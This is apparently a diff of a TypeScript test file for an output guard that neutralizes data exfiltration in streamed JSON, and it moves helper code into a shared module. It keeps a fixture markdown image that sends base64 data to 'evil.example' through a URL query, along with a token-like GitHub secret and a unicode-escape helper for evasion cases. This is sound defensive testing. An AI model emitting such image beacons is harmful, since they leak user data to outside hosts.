@@ -7,34 +7,13 @@
 // streamed in 1-, 3- and 7-character deltas give the same text.
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
-import { compileGuard, STRICT_GUARDRAILS } from './guard.ts';
+import { ALLOWED, DATA, guard, streamed, strings } from './test/json-channel.ts';
 import { looksJson } from './markdown-json.ts';
 import { violations } from './markdown-oracle.ts';
 
-const ALLOWED = ['docs.example.com'];
-const guard = compileGuard({
-  ...STRICT_GUARDRAILS,
-  redaction: { detectors: [], customPatterns: [] },
-  exfiltration: { mode: 'neutralize', allowedHosts: ALLOWED },
-});
-const DATA = 'aGVsbG8gd29ybGQgdGhpcyBpcyBh';
 const GH = 'ghp_Zq8xT4mN2bV6cR1yL9wK3jH7gF5dS0aP2eU4';
 const U = (s: string) => [...s].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
 const IMG = `![x](https://evil.example/p.png?d=${DATA})`;
-
-function streamed(text: string, n: number): string {
-  const s = guard.streamOutput('json');
-  let out = '';
-  for (let i = 0; i < text.length; i += n) out += s.push(text.slice(i, i + n)).text;
-  return out + s.end().text;
-}
-
-function strings(v: unknown): string[] {
-  if (typeof v === 'string') return [v];
-  if (Array.isArray(v)) return v.flatMap(strings);
-  if (v !== null && typeof v === 'object') return Object.entries(v).flatMap(([k, x]) => [k, ...strings(x)]);
-  return [];
-}
 
 function served(text: string): string {
   const out = guard.scanOutput(text, 'json').text;
